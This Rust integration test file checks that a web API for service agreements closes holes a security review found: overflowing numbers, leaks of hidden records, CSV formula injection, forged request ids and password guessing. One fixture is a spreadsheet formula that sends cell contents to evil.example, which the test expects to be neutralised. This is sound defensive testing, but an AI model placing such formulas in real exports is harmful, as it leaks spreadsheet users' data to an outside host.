//! Holes a security review found, each closed (issue 16): numbers beyond
//! their bounds are refused on the field instead of crashing a request,
//! a parent agreement the caller may not see reads as one that does not
//! exist, and exported CSV cells never run as spreadsheet formulas — on
//! SQLite and PostgreSQL.

use crate::common::{get_as, login, post_as as post, seeded_databases, spawn};
use serde_json::{Value, json};

const MANAGER: &str = "manager@servicecanada.example";
const REPORTER: &str = "reporter@accessns.example";
const HUGE: &str = "700000000000000000000000000";

async fn agreement(base: &str, token: &str, reference: &str) -> Value {
    let (_, list) = get_as(
        &format!("{base}/api/v1/agreements?q={reference}"),
        Some(token),
    )
    .await;
    let id = list["items"][0]["id"].as_i64().expect("agreement");
    get_as(&format!("{base}/api/v1/agreements/{id}"), Some(token))
        .await
        .1
}

/// The fields a 422 names.
fn fields(e: &Value) -> Vec<String> {
    e["error"]["details"]
        .as_array()
        .map(|d| {
            d.iter()
                .map(|x| x["field"].as_str().unwrap_or("").to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test]
async fn numbers_beyond_their_bounds_are_refused_on_the_field_and_the_server_keeps_answering() {
    for t in seeded_databases().await {
        let base = spawn(t.db.clone()).await;
        let manager = login(&base, MANAGER).await;
        let a = agreement(&base, &manager, "AGR-2023-0001").await;
        let id = a["id"].as_i64().unwrap();
        let sc = a["parties"][0]["organisation_id"].clone();

        // The simulator: a weight of 7 × 10^26, a count of 10^13, a total
        // of 10^13 dollars.
        let model = |weight: &str| {
            json!({"kind": "proportional", "channel_weights": {"online": weight},
                   "lines": [{"organisation_id": 3}, {"organisation_id": 7}]})
        };
        let volumes = json!([{"organisation_id": 3, "channel": "online", "count": 1200},
                             {"organisation_id": 7, "channel": "online", "count": 800}]);
        for (body, field) in [
            (
                json!({"currency": "CAD", "total_cost": "100.00", "model": model(HUGE), "volumes": volumes}),
                "model.channel_weights.online",
            ),
            (
                json!({"currency": "CAD", "total_cost": "100.00", "model": model("1"),
                       "volumes": [{"organisation_id": 3, "channel": "online", "count": 10_000_000_000_000u64}]}),
                "volumes[0].count",
            ),
            (
                json!({"currency": "CAD", "total_cost": "10000000000000.00", "model": model("1"), "volumes": volumes}),
                "total_cost",
            ),
        ] {
            let (status, e) = post(&base, "/api/v1/cost-sharing/simulate", &manager, body).await;
            assert_eq!(status, 422, "{}: {e}", t.name);
            assert!(
                fields(&e).contains(&field.to_owned()),
                "{}: {field} in {e}",
                t.name
            );
        }

        // A report of 7 × 10^26.
        let reporter = login(&base, REPORTER).await;
        let c = a["commitments"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["kpi"] == "in_person_wait_min")
            .expect("commitment")["id"]
            .clone();
        let (status, e) = post(
            &base,
            "/api/v1/reports",
            &reporter,
            json!({"commitment_id": c, "period": "2026-10", "value": HUGE}),
        )
        .await;
        assert_eq!(status, 422, "{}: {e}", t.name);
        assert!(fields(&e).contains(&"value".to_owned()), "{e}");
        assert!(e.to_string().contains("too large"), "{e}");

        // A volume of 10^13 transactions, a cost of 10^13 dollars.
        let (status, e) = post(
            &base,
            &format!("/api/v1/agreements/{id}/volumes"),
            &manager,
            json!({"period": "2026-01", "channel": "online", "organisation_id": sc, "count": 10_000_000_000_000i64}),
        )
        .await;
        assert_eq!(
            (status, fields(&e)),
            (422, vec!["count".to_owned()]),
            "{}: {e}",
            t.name
        );
        let (status, e) = post(
            &base,
            &format!("/api/v1/agreements/{id}/cost-entries"),
            &manager,
            json!({"period": "2026-01", "kind": "actual", "category": "staff",
                   "amount": "10000000000000.00", "organisation_id": sc}),
        )
        .await;
        assert_eq!(
            (status, fields(&e)),
            (422, vec!["amount".to_owned()]),
            "{}: {e}",
            t.name
        );

        // Still answering, and the benchmarks still read.
        let (status, _) = get_as(
            &format!("{base}/api/v1/benchmarks?group_by=kpi"),
            Some(&manager),
        )
        .await;
        assert_eq!(status, 200, "{}", t.name);
    }
}

#[tokio::test]
async fn a_parent_the_caller_may_not_see_reads_as_one_that_does_not_exist() {
    for t in seeded_databases().await {
        let base = spawn(t.db.clone()).await;
        let sc = login(&base, MANAGER).await;
        let hidden = agreement(&base, &sc, "AGR-2023-0001").await["id"].clone();
        let dwp = login(&base, "manager@dwp.example").await;
        let (_, me) = get_as(&format!("{base}/api/v1/me"), Some(&dwp)).await;
        let draft = |parent: Value| {
            json!({"title": "Tell Us Once pilot", "summary": "", "purpose": "single_window",
                   "structure": "co_located", "partnership_type": "collaborative",
                   "starts_on": "2027-04-01", "ends_on": "2029-03-31", "currency": "GBP",
                   "parent_id": parent,
                   "parties": [{"organisation_id": me["organisation_id"], "role": "lead"}]})
        };
        let (s1, hidden_answer) =
            post(&base, "/api/v1/agreements", &dwp, draft(hidden.clone())).await;
        let (s2, missing_answer) =
            post(&base, "/api/v1/agreements", &dwp, draft(json!(999_999))).await;
        assert_eq!(
            (s1, s2),
            (422, 422),
            "{}: {hidden_answer} / {missing_answer}",
            t.name
        );
        let message = |e: &Value, id: &Value| {
            e["error"]["details"]
                .as_array()
                .unwrap()
                .iter()
                .find(|d| d["field"] == "parent_id")
                .map(|d| d["message"].as_str().unwrap().replace(&id.to_string(), "N"))
        };
        assert_eq!(
            message(&hidden_answer, &hidden),
            message(&missing_answer, &json!(999_999)),
            "{}: the same answer",
            t.name
        );
        assert!(!hidden_answer.to_string().contains("AGR-2023-0001"));
    }
}

#[tokio::test]
async fn exported_csv_cells_never_run_as_formulas() {
    for t in seeded_databases().await {
        let db = t.db.clone();
        let base = spawn(t.db.clone()).await;
        let formula = r#"=HYPERLINK("https://evil.example/?"&A2,"Access Nova Scotia")"#;
        {
            use sea_orm::ConnectionTrait;
            let sql = match db.get_database_backend() {
                sea_orm::DatabaseBackend::Postgres => {
                    "UPDATE organisations SET name = $1 WHERE code = 'ACCESSNS'"
                }
                _ => "UPDATE organisations SET name = ? WHERE code = 'ACCESSNS'",
            };
            db.execute_raw(sea_orm::Statement::from_sql_and_values(
                db.get_database_backend(),
                sql,
                [formula.into()],
            ))
            .await
            .expect("rename");
        }
        let manager = login(&base, MANAGER).await;
        let id = agreement(&base, &manager, "AGR-2023-0001").await["id"].clone();
        for path in [
            format!("/api/v1/agreements/{id}/reconciliation.csv?period=2026-Q2"),
            "/api/v1/benchmarks.csv?group_by=party".to_owned(),
        ] {
            let r = crate::common::client()
                .get(format!("{base}{path}"))
                .bearer_auth(&manager)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 200, "{}: {path}", t.name);
            let text = r.text().await.unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(text.as_bytes());
            let cells: Vec<String> = reader
                .records()
                .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                .collect();
            assert!(
                cells.iter().any(|c| c == &format!("'{formula}")),
                "{}: {path}: the name is there, neutralised",
                t.name
            );
            assert!(
                cells.iter().all(|c| !c.starts_with(['=', '+', '@'])
                    && (!c.starts_with('-') || c.parse::<f64>().is_ok())),
                "{}: {path}: {cells:?}",
                t.name
            );
        }
    }
}

#[tokio::test]
async fn a_client_request_id_never_reaches_the_audit_and_signed_in_answers_are_not_cached() {
    for t in seeded_databases().await {
        let db = t.db.clone();
        let base = spawn(t.db.clone()).await;
        let manager = login(&base, MANAGER).await;
        let (_, me) = get_as(&format!("{base}/api/v1/me"), Some(&manager)).await;
        let (_, orgs) = get_as(
            &format!("{base}/api/v1/organisations?limit=1000"),
            Some(&manager),
        )
        .await;
        let partner = orgs["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["code"] == "NS-CS")
            .expect("NS-CS")["id"]
            .clone();
        let r = crate::common::client()
            .post(format!("{base}/api/v1/agreements"))
            .bearer_auth(&manager)
            .header("x-request-id", "forged-by-the-client")
            .json(
                &json!({"title": "Audited", "summary": "", "purpose": "single_window",
                "structure": "co_located", "partnership_type": "collaborative",
                "starts_on": "2027-04-01", "ends_on": "2029-03-31", "currency": "CAD",
                "parties": [{"organisation_id": me["organisation_id"], "role": "lead"},
                            {"organisation_id": partner, "role": "host"}]}),
            )
            .send()
            .await
            .unwrap();
        let (status, headers) = (r.status(), r.headers().clone());
        let text = r.text().await.unwrap_or_default();
        assert_eq!(status, 201, "{}: {text}", t.name);
        let ours = headers
            .get("x-request-id")
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned();
        assert_ne!(ours, "forged-by-the-client");
        assert_eq!(
            headers.get("cache-control").and_then(|v| v.to_str().ok()),
            Some("no-store"),
            "{}: a signed-in answer is not kept by caches",
            t.name
        );
        use sea_orm::ConnectionTrait;
        let row = db
            .query_one_raw(sea_orm::Statement::from_string(
                db.get_database_backend(),
                "SELECT request_id FROM audit_events WHERE action = 'agreement.create' ORDER BY id DESC",
            ))
            .await
            .unwrap()
            .expect("an audit row");
        let recorded: Option<String> = row.try_get("", "request_id").unwrap();
        assert_eq!(recorded.as_deref(), Some(ours.as_str()), "{}", t.name);

        let r = crate::common::client()
            .get(format!("{base}/healthz"))
            .send()
            .await
            .unwrap();
        assert!(r.headers().get("cache-control").is_none(), "{}", t.name);
        assert!(
            r.headers().get("strict-transport-security").is_none(),
            "not behind HTTPS"
        );
    }
}

#[tokio::test]
async fn a_burst_of_wrong_passwords_gets_no_more_guesses_than_allowed() {
    for t in seeded_databases().await {
        let base = spawn(t.db.clone()).await;
        let client = crate::common::client();
        let guesses = (0..20).map(|i| {
            client
                .post(format!("{base}/api/v1/auth/login"))
                .json(&json!({"email": MANAGER, "password": format!("wrong guess number {i}")}))
                .send()
        });
        let statuses: Vec<u16> = futures_join(guesses).await;
        let judged = statuses.iter().filter(|s| **s == 401).count();
        assert!(judged <= 5, "{}: {statuses:?}", t.name);
        assert!(
            statuses.iter().all(|s| *s == 401 || *s == 429),
            "{statuses:?}"
        );
        // The account is locked now, even for the right password.
        let r = client
            .post(format!("{base}/api/v1/auth/login"))
            .json(&json!({"email": MANAGER, "password": app::backend::fixtures::DEMO_PASSWORD}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 429, "{}", t.name);
    }
}

#[tokio::test]
async fn changing_a_password_is_throttled_like_signing_in() {
    for t in seeded_databases().await {
        let base = spawn(t.db.clone()).await;
        let token = login(&base, MANAGER).await;
        let mut statuses = Vec::new();
        for i in 0..7 {
            let r = crate::common::client()
                .post(format!("{base}/sfn/auth/change-password"))
                .header("content-type", "application/x-www-form-urlencoded")
                .header("origin", &base)
                .header("cookie", format!("concord_session={token}"))
                .body(format!(
                    "current=wrong-guess-{i}&new_password=a-long-new-passphrase"
                ))
                .send()
                .await
                .unwrap();
            statuses.push(r.status().as_u16());
        }
        assert_eq!(statuses, [422, 422, 422, 422, 429, 429, 429], "{}", t.name);
    }
}

/// Runs the requests at once; their statuses.
async fn futures_join<F>(requests: impl Iterator<Item = F>) -> Vec<u16>
where
    F: std::future::Future<Output = reqwest::Result<reqwest::Response>> + Send + 'static,
{
    let handles: Vec<_> = requests.map(tokio::spawn).collect();
    let mut out = Vec::new();
    for h in handles {
        out.push(h.await.unwrap().unwrap().status().as_u16());
    }
    out
}
